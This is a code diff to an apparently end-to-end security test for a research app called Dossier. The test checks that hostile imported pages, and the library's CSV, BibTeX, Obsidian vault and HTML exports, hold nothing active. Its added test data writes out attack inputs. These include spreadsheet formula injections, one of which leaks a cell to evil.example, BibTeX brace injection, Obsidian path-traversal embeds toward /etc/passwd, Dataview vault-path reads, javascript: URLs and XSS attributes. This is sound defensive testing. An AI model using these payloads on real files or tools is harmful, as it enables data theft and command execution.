@@ -1,13 +1,14 @@
-// End to end: a corpus of hostile articles and names, written here, is imported and every
-// view of the real app is opened. Each payload, if it ever ran, would set a marker on the
-// window and ask Dossier (through the IPC bridge) to create an actor called "PWNED"; the
-// test fails if either happens.
+// End to end: a corpus of hostile articles and names, written here, is imported (every
+// suggestion accepted) and every view of the real app is opened. Each payload, if it
+// ever ran, would set a marker on the window and ask Dossier (through the IPC bridge) to
+// create an actor called "PWNED"; the test fails if either happens. Then the library's
+// exports are read as their tools read them, and must hold nothing active either.
 import assert from "node:assert/strict";
-import { execFileSync } from "node:child_process";
-import { mkdirSync, writeFileSync } from "node:fs";
+import { execFileSync, spawnSync } from "node:child_process";
+import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { after, before, test } from "node:test";
-import { appBinary, scratchHome, Session } from "./webdriver.mjs";
+import { appBinary, repoRoot, scratchHome, Session } from "./webdriver.mjs";
 
 const scratch = scratchHome();
 const store = join(scratch.home, "hostile.dossier");
@@ -61,21 +62,37 @@ const names = [
   "__proto__",
 ];
 
+/** What pages carry to attack the tools an analyst exports to: spreadsheet formulas,
+ * BibTeX brace games, Obsidian embeds and Dataview queries, `javascript:` and broken-line
+ * addresses. Each page gets one of each in its title, byline, site name and address. */
+const metadata = {
+  titles: ['=HYPERLINK("https://evil.example/?leak="&A1,"Open")', "x}, author = {Mallory", "![[../../../etc/passwd]] [[../.obsidian/app]]", "`$= dv.el('b', app.vault.adapter.basePath)`"],
+  bylines: ["+cmd|' /C calc'!A0", "Mallory} @misc{evil, title={x", "<b onmouseover=alert(1)>Eve</b>"],
+  sites: ["-2+3+cmd|' /C calc'!A0", "[evil](javascript:alert(1))", "@SUM(1)"],
+  urls: ["javascript:alert(document.domain)", "https://news.example/a&#13;&#10;# Injected&#13;&#10;&lt;script>x&lt;/script>", "https://news.example/}&#10;@misc{evil,"],
+};
+const attribute = (text) => text.replace(/&(?!#)/g, "&amp;").replace(/"/g, "&quot;").replace(/</g, "&lt;");
+const pick = (list, i) => list[i % list.length];
+
 before(async () => {
   const folder = join(scratch.home, "hostile");
   mkdirSync(folder);
   payloads.forEach((payload, i) => {
     writeFileSync(
       join(folder, `${String(i).padStart(2, "0")}.html`),
-      `<!doctype html><html><head><title>Hostile ${i}: ${payload.slice(0, 40).replace(/</g, "(")}</title></head>` +
+      `<!doctype html><html><head><title>Hostile ${i}: ${payload.slice(0, 40).replace(/</g, "(")} ${attribute(pick(metadata.titles, i))}</title>` +
+        `<meta name="author" content="${attribute(pick(metadata.bylines, i))}"><meta property="og:site_name" content="${attribute(pick(metadata.sites, i))}">` +
+        `<link rel="canonical" href="${pick(metadata.urls, i)}"></head>` +
         `<body><article><h1>Hostile page ${i}</h1><p>Iran signed a cooperation agreement with Venezuela in 2022, officials said.</p>` +
-        `${payload}<p>Hezbollah denied it. “${payload}” said Joseph Humire in March.</p></article></body></html>`,
+        `${payload}<p>Hezbollah denied it. “${payload}” said Joseph Humire in March.</p>` +
+        `<p>“The ![[../../secret]] file and \`$= dv.current()\` were in ${pick(metadata.titles, i + 1).replace(/</g, "&lt;")},” said Joseph Humire.</p></article></body></html>`,
     );
   });
   const run = (...args) => execFileSync(appBinary(), ["--db", store, ...args], { env: { ...process.env, ...scratch.env } });
   run("import", folder);
   for (const name of names) run("actors", "add", name, "--kind", "organization");
-  run("suggestions", "accept", "--source", "1", "--all");
+  // Every suggestion of every page accepted: hostile quotations become citations.
+  for (let id = 1; id <= payloads.length; id++) run("suggestions", "accept", "--source", String(id), "--all");
   session = await Session.start({ ...scratch.env, DOSSIER_DB: store });
 });
 
@@ -149,6 +166,37 @@ test(`${payloads.length} hostile pages and ${names.length} hostile names run not
   for (const [i, page] of html.entries()) {
     assert.ok(!dangerous.test(page), `stored rendition ${i} keeps something dangerous: ${page.match(dangerous)?.[0]}`);
   }
+
+  // The exports, read as their tools read them (tests/consumers/check_inert.py: the vault
+  // as Obsidian with Dataview would, the briefing as a browser, CSV as a spreadsheet,
+  // BibTeX as pandoc and BibTeX), hold nothing active.
+  const exports = join(scratch.home, "exports");
+  for (const format of ["vault", "briefing", "csv", "bibtex", "csl"]) {
+    execFileSync(appBinary(), ["--db", store, "export", "--format", format, "--out", join(exports, format)], {
+      env: { ...process.env, ...scratch.env },
+    });
+  }
+  const python = process.env.DOSSIER_FTM_PYTHON ?? join(process.env.HOME ?? "", ".cache/dossier/ftm-venv/bin/python");
+  const checked = spawnSync(python, [join(repoRoot, "tests/consumers/check_inert.py"), exports], { encoding: "utf8" });
+  assert.equal(checked.status, 0, `${checked.stdout}${checked.stderr}`);
+  assert.match(checked.stdout, /vault pages, 1 briefing\.md, 1 briefing\.html, \d+ csv cells, 30 bibtex entries/);
+  // The briefing parsed by this very webview (a DOMParser document runs nothing): no
+  // element or attribute that runs or fetches.
+  const briefing = readFileSync(join(exports, "briefing/briefing.html"), "utf8");
+  const active = await session.execute(
+    `const doc = new DOMParser().parseFromString(arguments[0], "text/html");
+     const found = [];
+     for (const el of doc.querySelectorAll("*")) {
+       if (/^(script|iframe|object|embed|img|svg|math|form|input|link|base|video|audio|template)$/i.test(el.localName)) found.push(el.localName);
+       for (const a of el.attributes) {
+         if (/^on/i.test(a.name)) found.push(el.localName + " " + a.name);
+         if (/^(href|src|action|data)$/i.test(a.name) && !/^(https?:|#)/i.test(a.value.trim())) found.push(el.localName + " " + a.name + "=" + a.value);
+       }
+     }
+     return found;`,
+    [briefing],
+  );
+  assert.deepEqual(active, [], "the briefing holds something active");
 
   // Control: the two detectors see a payload that does run (here run on purpose, through
   // WebDriver), so their silence above means something.
